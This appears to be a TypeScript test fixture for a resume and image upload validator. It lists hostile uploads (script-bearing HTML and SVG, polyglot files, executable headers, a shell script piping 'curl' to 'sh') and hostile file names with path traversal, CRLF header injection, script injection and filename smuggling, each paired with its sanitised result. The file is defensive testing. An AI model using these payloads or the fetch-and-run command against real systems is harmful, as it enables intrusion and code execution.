import { HTML, JPEG, PDF, PNG, SVG, WORD_NAMES, zip } from './sample-files.ts';

/** Hostile uploads in place of a resume or a card. None is a valid one. */
export const HOSTILE_FILES: readonly (readonly [what: string, bytes: Buffer])[] = [
  ['a page', HTML],
  ['a page in UTF-16', Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(HTML.toString(), 'utf16le')])],
  ['a drawing with a script', SVG],
  ['a drawing behind an XML prolog', Buffer.concat([Buffer.from('<?xml version="1.0"?>\n'), SVG])],
  ['a page in front of a PDF', Buffer.concat([HTML, PDF])],
  ['a page in front of a picture', Buffer.concat([HTML, PNG])],
  ['a GIF that is a script', Buffer.from('GIF89a/*\0\0*/=alert(1)//')],
  [
    'a program for Windows',
    Buffer.from('MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode.', 'latin1'),
  ],
  ['a program for Linux', Buffer.concat([Buffer.from('7f454c460201010000', 'hex'), Buffer.alloc(60)])],
  ['a program for a Mac', Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(60)])],
  ['a script for a shell', Buffer.from('#!/bin/sh\ncurl https://example.com | sh\n')],
  [
    'an old Office file, which may hold macros',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
  ],
  ['a rich text, which may hold objects', Buffer.from('{\\rtf1 {\\object\\objocx}}')],
  ['an archive', zip(['run.exe'])],
  ['a Java archive', zip(['META-INF/MANIFEST.MF', 'Run.class'])],
  ['a Word document with macros', zip([...WORD_NAMES, 'word/vbaProject.bin'])],
  ['a Word document with a password', zip(WORD_NAMES, { flags: 1 })],
  ['a picture whose first byte is wrong', Buffer.concat([Buffer.from([0]), JPEG])],
  ['bytes of no kind', Buffer.alloc(2_000, 7)],
];

/** Files of an accepted kind that are also something else. The product stores them and serves them safely. */
export const TWO_FACED_FILES: readonly (readonly [what: string, bytes: Buffer, type: string])[] = [
  ['a PDF with a page inside', Buffer.concat([PDF, HTML]), 'application/pdf'],
  ['a PDF with an archive behind it', Buffer.concat([PDF, zip(['run.exe'])]), 'application/pdf'],
  ['a picture with a page behind it', Buffer.concat([PNG, HTML]), 'image/png'],
  ['a photograph with a drawing behind it', Buffer.concat([JPEG, SVG]), 'image/jpeg'],
];

/** Names as uploaded in an address, and the stored result. */
export const HOSTILE_NAMES: readonly (readonly [sent: string, kept: string])[] = [
  ['../../etc/passwd', 'passwd.pdf'],
  ['..\\..\\windows\\win.ini', 'win.pdf'],
  ['cv.pdf.exe', 'cv.pdf.pdf'],
  ['.htaccess', 'resume.pdf'],
  ['...', 'resume.pdf'],
  ['cv\u202efdp.exe', 'cvfdp.pdf'],
  ['cv.pdf\r\nSet-Cookie: a=b', 'cv.pdf'],
  ['"><script>alert(1)<.html', 'scriptalert(1).pdf'],
  ['cv.pdf"; filename="run.exe', 'cv.pdf filename=run.pdf'],
  ['a'.repeat(255), `${'a'.repeat(80)}.pdf`],
];
